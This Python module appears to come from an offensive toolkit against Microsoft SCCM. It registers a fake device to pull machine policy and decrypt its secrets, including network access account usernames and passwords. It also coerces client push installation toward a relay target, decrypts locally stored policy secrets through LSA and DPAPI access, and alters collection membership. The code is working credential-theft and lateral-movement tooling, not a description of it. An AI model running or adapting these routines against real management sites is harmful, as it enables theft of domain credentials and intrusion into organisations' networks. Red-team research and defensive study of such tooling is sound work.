"""
Operator workflows composed from the identity, messaging, policy, secrets
and membership subsystems. Each function runs one linear sequence of
exchanges and returns a result object; printing is left to the caller.
"""

import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional, Union

from .errors import InvalidArgumentCombinationError, MalformedResponseError, TransportError
from .identity.provider import ClientIdentity, IdentityProvider
from .logging import get_logger
from .membership.collections import CollectionMembership, CollectionRef, ResourceRef
from .membership.waiter import ChangeKind, MembershipSnapshot, MembershipWaiter
from .messaging.codec import ContentLocationParams, DiscoveryParams, PolicyRequestParams, RegistrationParams
from .messaging.models import ContentLocationReply, MessageType, RegistrationReply, RelayTarget, ServerResponse
from .messaging.transport import Transport
from .policy.models import PolicyAssignment, SecretBlob
from .policy.resolver import PolicyResolver, decode_policy_document, extract_secrets, select_secret_assignments
from .query.base import ObjectQuery
from .secrets.decryptor import DecryptionReport, LocalSecretsCollector, SecretDecryptor
from .secrets.elevation import ElevationTactic
from .secrets.obfuscation import PolicySecretDeobfuscator
from .secrets.sources import DiskBlobSource, LiveBlobSource
from .secrets.win32 import Win32Api
from .utils.config import SccmSettings, settings as default_settings
from .utils.files import write_artifact

logger = get_logger(__name__)


@dataclass
class RegisteredDevice:
    identity: ClientIdentity
    exported: str
    client_name: str


@dataclass
class PolicySecretsResult:
    identity: ClientIdentity
    assignments: List[PolicyAssignment]
    report: DecryptionReport
    documents: Dict[str, str] = field(default_factory=dict)


@dataclass
class MembershipChange:
    collection: CollectionRef
    resource: ResourceRef
    snapshot: MembershipSnapshot


def random_client_name() -> str:
    return f"DESKTOP-{uuid.uuid4().hex[:7].upper()}"


def register_device(
    transport: Transport,
    management_point: str,
    client_name: Optional[str] = None,
    client_fqdn: Optional[str] = None,
    authenticated: bool = False,
    port: Optional[int] = None,
    provider: Optional[IdentityProvider] = None,
) -> RegisteredDevice:
    """
    Create a new identity and register it with the management point.

    Returns:
        RegisteredDevice whose identity is bound to the issued client token,
        plus a PKCS#12 hex export for reuse with load_identity().
    """
    provider = provider or IdentityProvider(transport.settings)
    client_name = client_name or random_client_name()
    identity = provider.create_identity()
    message = transport.codec.build_message(
        MessageType.REGISTRATION,
        RegistrationParams(client_name=client_name, client_fqdn=client_fqdn, authenticated=authenticated),
        identity,
        target_host=management_point,
    )
    response = transport.send(message, management_point, port)
    if not isinstance(response.payload, RegistrationReply):
        raise MalformedResponseError("registration reply carries no client token", expected_type="registration")

    identity = identity.with_token(response.payload.client_token)
    logger.info(f"Registered {client_name} as {identity.client_token}")
    return RegisteredDevice(identity=identity, exported=provider.export_identity(identity), client_name=client_name)


def _client_name_for(identity: Optional[ClientIdentity], client_name: Optional[str]) -> str:
    # A stored identity must report the name it registered with
    if identity is not None and not client_name:
        raise InvalidArgumentCombinationError("a stored client identity needs the device name it registered with")
    return client_name or random_client_name()


def _identity_or_register(
    transport: Transport,
    management_point: str,
    identity: Optional[ClientIdentity],
    client_name: str,
    port: Optional[int],
    authenticated: bool = False,
) -> ClientIdentity:
    if identity is not None:
        identity.require_token()
        return identity
    return register_device(transport, management_point, client_name, authenticated=authenticated, port=port).identity


def get_secrets_from_policy(
    transport: Transport,
    management_point: str,
    identity: Optional[ClientIdentity] = None,
    client_name: Optional[str] = None,
    client_fqdn: Optional[str] = None,
    registration_wait: Optional[float] = None,
    output_path: Optional[Union[str, Path]] = None,
    port: Optional[int] = None,
    sleep: Callable[[float], None] = time.sleep,
) -> PolicySecretsResult:
    """
    Request machine policy and decrypt every protected value it carries.

    Without an identity a new device is registered first (over the
    authenticated endpoint when the transport has credentials) and the
    registration wait is observed so the site can approve it. A stored
    identity must be given with the client_name it registered under.

    A policy body that cannot be downloaded or decoded is logged and
    skipped; undecryptable values are reported in the DecryptionReport.
    """
    client_name = _client_name_for(identity, client_name)
    if identity is None:
        identity = _identity_or_register(
            transport, management_point, None, client_name, port, authenticated=transport.auth is not None
        )
        wait = transport.settings.REGISTRATION_WAIT_SECONDS if registration_wait is None else registration_wait
        if wait > 0:
            logger.info(f"Waiting {wait:g}s for the registration to be processed")
            sleep(wait)
    else:
        identity.require_token()

    resolver = PolicyResolver(transport, management_point, port)
    assignments = resolver.request_assignments(
        identity, PolicyRequestParams(client_name=client_name, client_fqdn=client_fqdn)
    )

    blobs: List[SecretBlob] = []
    documents: Dict[str, str] = {}
    for assignment in select_secret_assignments(assignments):
        try:
            body = resolver.fetch_body(assignment, identity)
            blobs.extend(extract_secrets(body, source=assignment.policy_id))
            documents[assignment.policy_id] = decode_policy_document(body)
        except (TransportError, MalformedResponseError) as e:
            logger.warning(f"Skipping policy {assignment.policy_id}: {e.message}")

    report = SecretDecryptor([PolicySecretDeobfuscator()]).decrypt_all(blobs)
    result = PolicySecretsResult(identity=identity, assignments=assignments, report=report, documents=documents)
    if output_path:
        write_artifact(output_path, format_policy_output(result))
    return result


def invoke_client_push(
    transport: Transport,
    management_point: str,
    relay_target: Union[str, RelayTarget],
    identity: Optional[ClientIdentity] = None,
    client_name: Optional[str] = None,
    domain: Optional[str] = None,
    port: Optional[int] = None,
) -> ServerResponse:
    """
    Send a discovery record naming the relay target so the site attempts
    client push installation against it.

    The returned Acknowledgment only reports that the record was accepted.
    """
    target = relay_target if isinstance(relay_target, RelayTarget) else RelayTarget.parse(relay_target)
    client_name = _client_name_for(identity, client_name)
    identity = _identity_or_register(transport, management_point, identity, client_name, port)
    message = transport.codec.build_message(
        MessageType.DISCOVERY_RECORD,
        DiscoveryParams(client_name=client_name, domain=domain, relay_target=target),
        identity,
        target_host=management_point,
    )
    return transport.send(message, management_point, port)


def get_content_locations(
    transport: Transport,
    management_point: str,
    package_id: str,
    package_version: int,
    identity: Optional[ClientIdentity] = None,
    client_name: Optional[str] = None,
    domain: str = "",
    port: Optional[int] = None,
) -> ContentLocationReply:
    client_name = _client_name_for(identity, client_name)
    identity = _identity_or_register(transport, management_point, identity, client_name, port)
    message = transport.codec.build_message(
        MessageType.CONTENT_LOCATION_REQUEST,
        ContentLocationParams(
            package_id=package_id, package_version=package_version, client_name=client_name, domain=domain
        ),
        identity,
        target_host=management_point,
    )
    response = transport.send(message, management_point, port)
    if not isinstance(response.payload, ContentLocationReply):
        raise MalformedResponseError("not a content location reply", expected_type="content_location_request")
    logger.info(f"{package_id}: {len(response.payload.locations)} content locations")
    return response.payload


def collect_local_secrets(
    method: str = "wmi",
    tactic: Union[str, ElevationTactic] = ElevationTactic.REGISTRY,
    query: Optional[ObjectQuery] = None,
    api: Optional[Win32Api] = None,
    settings: Optional[SccmSettings] = None,
    output_path: Optional[Union[str, Path]] = None,
) -> DecryptionReport:
    """
    Decrypt the policy secrets stored on this host.

    Args:
        method: "wmi" reads current policy through the object query
            service; "disk" scans the CIM repository file
        tactic: elevation used to read the LSA secrets
        query: object query bound to the local client (required for "wmi")
    """
    settings = settings or default_settings
    api = api or Win32Api()
    if method == "wmi":
        if query is None:
            raise InvalidArgumentCombinationError("the wmi method needs an object query for the local client")
        source: Any = LiveBlobSource(query)
    elif method == "disk":
        source = DiskBlobSource(settings.WMI_REPOSITORY_PATH)
    else:
        raise InvalidArgumentCombinationError(f"unknown method {method!r}")

    collector = LocalSecretsCollector(
        source, api, tactic=ElevationTactic(tactic), masterkey_dir=settings.SYSTEM_MASTERKEY_DIR
    )
    report = collector.collect()
    if output_path:
        write_artifact(output_path, "\n".join(format_report(report)) + "\n")
    return report


def _change_membership(
    query: ObjectQuery,
    change: ChangeKind,
    collection_id: Optional[str],
    collection_name: Optional[str],
    device: Optional[str],
    user: Optional[str],
    resource_id: Optional[Union[int, str]],
    collection_type: Optional[str],
    wait: Optional[float],
    waiter: Optional[MembershipWaiter],
    settings: Optional[SccmSettings],
) -> MembershipChange:
    settings = settings or default_settings
    membership = CollectionMembership(query)
    collection = membership.resolve_collection(collection_id, collection_name)
    resource = membership.resolve_resource(
        device=device, user=user, resource_id=resource_id, collection_type=collection_type or collection.collection_type
    )
    if change is ChangeKind.ADDED:
        membership.add_member(collection.collection_id, resource.resource_id, resource.resource_class, resource.name)
    else:
        membership.remove_member(collection.collection_id, resource.resource_id, resource.resource_class, resource.name)

    waiter = waiter or MembershipWaiter(query)
    snapshot = waiter.wait_for_convergence(
        collection.collection_id,
        resource.resource_id,
        change,
        timeout=settings.MEMBERSHIP_WAIT_SECONDS if wait is None else wait,
        interval=settings.MEMBERSHIP_POLL_INTERVAL_SECONDS,
    )
    return MembershipChange(collection=collection, resource=resource, snapshot=snapshot)


def add_collection_member(
    query: ObjectQuery,
    collection_id: Optional[str] = None,
    collection_name: Optional[str] = None,
    device: Optional[str] = None,
    user: Optional[str] = None,
    resource_id: Optional[Union[int, str]] = None,
    collection_type: Optional[str] = None,
    wait: Optional[float] = None,
    waiter: Optional[MembershipWaiter] = None,
    settings: Optional[SccmSettings] = None,
) -> MembershipChange:
    return _change_membership(
        query, ChangeKind.ADDED, collection_id, collection_name, device, user, resource_id, collection_type,
        wait, waiter, settings,
    )


def remove_collection_member(
    query: ObjectQuery,
    collection_id: Optional[str] = None,
    collection_name: Optional[str] = None,
    device: Optional[str] = None,
    user: Optional[str] = None,
    resource_id: Optional[Union[int, str]] = None,
    collection_type: Optional[str] = None,
    wait: Optional[float] = None,
    waiter: Optional[MembershipWaiter] = None,
    settings: Optional[SccmSettings] = None,
) -> MembershipChange:
    return _change_membership(
        query, ChangeKind.REMOVED, collection_id, collection_name, device, user, resource_id, collection_type,
        wait, waiter, settings,
    )


# =============================================================================
# Output formatting
# =============================================================================


def format_report(report: DecryptionReport) -> List[str]:
    """Render recovered secrets for the operator console or an output file."""
    lines: List[str] = []
    for account in report.credentials:
        lines.append(f"[+] Network access account username: {account.username}")
        lines.append(f"[+] Network access account password: {account.password}")
    for secret in report.secrets:
        if secret.blob.name.startswith("NetworkAccess"):
            continue
        label = f" ({secret.blob.label})" if secret.blob.label else ""
        lines.append(f"[+] {secret.blob.instance}.{secret.blob.name}{label}: {secret.text}")
    for failure in report.failures:
        lines.append(f"[!] {failure.blob!r}: {failure.error.message}")
    return lines


def format_policy_output(result: PolicySecretsResult) -> str:
    parts = [f"<!-- Policy {policy_id} -->\n{document}\n" for policy_id, document in result.documents.items()]
    parts.append("\n".join(format_report(result.report)) + "\n")
    return "\n".join(parts)
